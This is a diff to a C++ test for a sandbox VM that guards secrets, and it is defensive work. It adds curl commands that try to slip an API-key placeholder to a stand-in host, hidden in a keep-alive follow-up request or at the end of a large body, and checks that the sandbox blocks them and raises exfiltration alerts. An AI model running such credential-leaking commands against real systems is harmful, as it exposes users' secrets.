@@ -371,12 +371,24 @@ void TestSecretsVm::thePlaceholderToAnotherHostIsBlockedAndAlerted()
     // Plain HTTP without a placeholder passes.
     r = guestSh(u"curl -sS --max-time 30 -w '\\n%{http_code}' http://plain.test.example/fine"_s);
     QCOMPARE(statusOf(r), QByteArray("200"));
+    // A clean first request, then the placeholder in the second request of the same keep-alive
+    // connection, and far into a large body: both are caught after the first head.
+    r = guestSh(u"curl -sS --max-time 30 http://plain.test.example/first-clean --next -H \"x-api-key: $API_KEY\" "
+                "http://plain.test.example/second-leaks; echo; head -c 300000 /dev/zero | tr '\\0' a > /tmp/body; "
+                "printf '%s' \"$API_KEY\" >> /tmp/body; curl -sS --max-time 30 -H 'Expect:' --data-binary @/tmp/body "
+                "http://plain.test.example/body-leaks; echo"_s);
+    bool firstSeen = false;
+    for (const QByteArray &req : m_plain->requests()) {
+        firstSeen = firstSeen || req.contains("first-clean");
+        QVERIFY2(!req.contains("second-leaks") && !req.contains(m_placeholder), req.left(300).constData());
+    }
+    QVERIFY2(firstSeen, r.out.constData());
 
     const QList<QJsonObject> got = alerts(3000);
     int exfiltration = 0;
     for (const QJsonObject &a : got)
         exfiltration += a.value("kind"_L1).toString() == "exfiltration"_L1 && a.value("sandbox"_L1).toString() == m_box;
-    QVERIFY2(exfiltration >= 2, qPrintable(u"%1 exfiltration alerts of %2 events"_s.arg(exfiltration).arg(got.size())));
+    QVERIFY2(exfiltration >= 4, qPrintable(u"%1 exfiltration alerts of %2 events"_s.arg(exfiltration).arg(got.size())));
 }
 
 void TestSecretsVm::theRealValueIsNeverInTheGuest()
